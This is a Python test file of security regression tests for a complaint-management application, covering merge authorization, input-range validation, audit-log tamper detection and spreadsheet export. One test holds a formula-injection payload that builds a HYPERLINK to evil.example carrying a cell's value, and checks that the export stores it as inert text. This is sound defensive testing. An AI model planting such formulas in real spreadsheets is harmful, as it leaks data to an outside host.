"""What the outside tester broke in this release candidate, kept broken-proof."""

from __future__ import annotations

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from xiaobao.api.app import create_app
from xiaobao.domain.roles import Role
from xiaobao.services.actors import Actor
from xiaobao.services.blackgray import export, leads, review
from xiaobao.services.complaints.intake import storing
from xiaobao.store.audit import audit_log
from sqlalchemy import update
from xiaobao.services import audit

from tests.conftest import PASSWORD, console_login, record
from tests.support.blackgray import gang

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _login(client, user):
    return {"Authorization": "Bearer " + client.post("/auth/login", json={"username": user, "password": PASSWORD}).json()["token"]}


def test_merging_needs_the_case_too(ctx, users):
    parent, _ = storing.submit(ctx, record(1, channel="regulator_12378"), actor="t")  # L4 escalation
    child, _ = storing.submit(ctx, record(2, channel="regulator_12378"), actor="t")
    client = TestClient(create_app(ctx))
    r = client.post(f"/complaints/{child.id}/merge", json={"parent_id": parent.id}, headers=_login(client, "agent"))
    assert r.status_code == 403


def test_a_review_note_in_the_lead_summary_stays_text(ctx, users, tmp_path):
    for i in range(6):
        storing.submit(ctx, gang(i), actor="t")
    leads.refresh_leads(ctx)
    lead = leads.list_leads(ctx)["items"][0]
    comp = Actor("compliance", Role.COMPLIANCE)
    review.review_lead(ctx, lead["id"], "confirm", comp, HYPERLINK)
    out = export.export_lead(ctx, lead["id"], comp, tmp_path / "pkg")
    cells = [c for ws in load_workbook(out["xlsx"]).worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == HYPERLINK for c in cells)


def test_values_out_of_range_are_422_in_the_api_and_the_console(ctx, users):
    c, _ = storing.submit(ctx, record(3, category="other"), actor="t")
    client = TestClient(create_app(ctx))
    h = _login(client, "supervisor")
    assert client.get("/reports/monthly", params={"month": "0001-01"}, headers=h).status_code == 422
    assert client.get("/reports/monthly.xlsx", params={"month": "9999-12"}, headers=h).status_code == 422
    r = client.post(f"/complaints/{c.id}/transfer", json={"tier": "L9", "team": "frontline", "reason": "x"}, headers=h)
    assert r.status_code == 422 and r.json()["details"]["field"] == "tier"
    console = TestClient(create_app(ctx))
    console_login(console, "supervisor")
    assert console.get("/ui/complaints/99999999999999999999").status_code in (404, 422)
    assert console.get("/ui/complaints/9223372036854775808").status_code in (404, 422)


def test_an_actor_edited_inside_the_hashed_content_is_detected(ctx, users):
    storing.submit(ctx, record(4), actor="agent")
    with ctx.store.uow() as uow:
        row = uow.session.execute(audit_log.select().where(audit_log.c.seq == 2)).mappings().one()
        uow.session.execute(update(audit_log).where(audit_log.c.seq == 2)
                            .values(content={**row["content"], "actor": "somebody-else"}))
        uow.commit()
    problems = audit.verify(ctx).problems
    assert [p.seq for p in problems] == [2]
